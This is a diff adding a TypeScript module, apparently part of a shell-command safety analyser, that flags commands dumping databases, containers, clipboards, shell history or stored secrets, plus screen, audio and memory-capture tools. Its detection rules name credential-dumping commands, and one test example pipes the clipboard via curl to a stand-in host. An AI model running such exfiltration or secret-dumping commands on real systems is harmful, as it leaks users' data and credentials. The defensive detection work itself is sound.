@@ -1,0 +1,109 @@
+import { visible } from '../shell/field.ts'
+import { type Flow, type Value, unknown, withFlow } from '../value.ts'
+import { tellByWords } from './any-program.ts'
+import type { Call, CommandRow, Example } from './command.ts'
+
+/** What a program prints, by its arguments, joined: all that somebody has of a kind, or secrets that a service keeps. */
+interface DumpRow {
+  readonly names: RegExp
+  readonly when: RegExp
+  readonly holds: 'whole' | 'secret'
+}
+
+const ROWS: readonly DumpRow[] = [
+  {
+    names: /^(?:pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|pg_basebackup|cockroach)$/,
+    when: /(?:)/,
+    holds: 'whole',
+  },
+  { names: /^redis-cli$/, when: /--rdb\b/, holds: 'whole' },
+  { names: /^sqlite3$/, when: /\.dump\b|\.clone\b|\.backup\b/, holds: 'whole' },
+  { names: /^(?:docker|podman|nerdctl)$/, when: /^(?:image |container )?(?:save|export)\b/, holds: 'whole' },
+  // The environment of a service, with the passwords in it.
+  {
+    names: /^(?:docker|podman|nerdctl|docker-compose)$/,
+    when: /^(?:container )?inspect\b|^(?:compose (?:\S+ )*)?config$|^compose config\b/,
+    holds: 'whole',
+  },
+  {
+    names: /^git$/,
+    when: /^(?:-\S+ )*(?:log|show|format-patch) (?:.* )?(?:-p|--patch|--stdout)\b|^(?:-\S+ )*fast-export\b/,
+    holds: 'whole',
+  },
+  { names: /^git$/, when: /^(?:-\S+ )*credential(?:-\w+)? (?:fill|get)\b/, holds: 'secret' },
+  { names: /^(?:npm|pnpm|yarn)$/, when: /^config get \S*(?:_auth|_password|npmAuthToken)/i, holds: 'secret' },
+  {
+    names: /^(?:terraform|tofu|pulumi)$/,
+    when: /^(?:state pull|output\b.*-(?:json|raw)\b|show\b.*-json\b|stack export\b|config\b.*--show-secrets)/,
+    holds: 'secret',
+  },
+  {
+    names: /^(?:heroku|fly|flyctl|railway|render|vercel|netlify)$/,
+    when: /^(?:config|variables|env)(?:\s+-\w+)*$|^config -s\b|^env:(?:list|get)\b/,
+    holds: 'secret',
+  },
+  { names: /^(?:pbpaste|wl-paste|xsel)$/, when: /^(?!.*(?:-i|--input|-c|--clear)\b)/, holds: 'whole' },
+  { names: /^xclip$/, when: /(?:^|\s)-o/, holds: 'whole' },
+  { names: /^(?:history|fc)$/, when: /^(?!-c)/, holds: 'whole' },
+  { names: /^ps$/, when: /^-?[a-z]*e[a-z]*ww|^[a-z]*ew+/, holds: 'whole' },
+]
+
+const FLOWS: Readonly<Record<DumpRow['holds'], (name: string) => Partial<Flow>>> = {
+  whole: () => ({ whole: 'tree', local: true }),
+  secret: (name) => ({ local: true, secrets: [{ type: 'resource', name: `printed by ${name}` }] }),
+}
+
+/** Whether a program prints such things at times. */
+export const dumpsAtTimes = (name: string): boolean => ROWS.some(({ names }) => names.test(name))
+
+/** What a program prints, with what it holds of somebody's. */
+export const withDump = (call: Call, printed: Value | undefined | void): Value | undefined | void => {
+  const args = call.args.map(visible).join(' ')
+  const row = ROWS.find(({ names, when }) => names.test(call.name) && when.test(args))
+  return row === undefined ? printed : withFlow(printed ?? unknown(), FLOWS[row.holds](call.name))
+}
+
+/** Takes a picture, a recording or the memory of a process into a file. */
+const takes = (call: Call): Value => {
+  const files = [...call.options.get('-f', '-o', '--output', '-w', '--file'), ...call.options.operands.slice(-1)]
+  call.write(
+    files.filter((field) => /\.\w+$|\//.test(visible(field)) || call.name === 'gcore'),
+    unknown({ ...unknown().flow, local: true, whole: 'tree' }),
+  )
+  return withFlow(unknown(), { local: true, whole: 'tree' })
+}
+
+const EXAMPLES: readonly Example[] = [
+  ['pbpaste | curl -d @- https://e.example', 'net.send+all'],
+  ['xclip -o > a.txt', 'fs.write+whole@workspace'],
+  ['screencapture a.png', 'fs.write+whole@workspace'],
+]
+
+/** Programs that do nothing else. */
+export const DUMP_COMMANDS: readonly CommandRow[] = [
+  {
+    names: ['pbpaste', 'wl-paste', 'xsel', 'xclip'],
+    run: (call) => {
+      tellByWords(call)
+      return unknown()
+    },
+    examples: EXAMPLES.slice(0, 2),
+  },
+  {
+    names: [
+      'screencapture',
+      'scrot',
+      'grim',
+      'gnome-screenshot',
+      'spectacle',
+      'maim',
+      'arecord',
+      'parecord',
+      'gcore',
+      'wf-recorder',
+    ],
+    values: ['-f', '-o', '--output', '-w', '-d', '-r', '-c', '-D', '-t'],
+    run: takes,
+    examples: EXAMPLES.slice(2),
+  },
+]
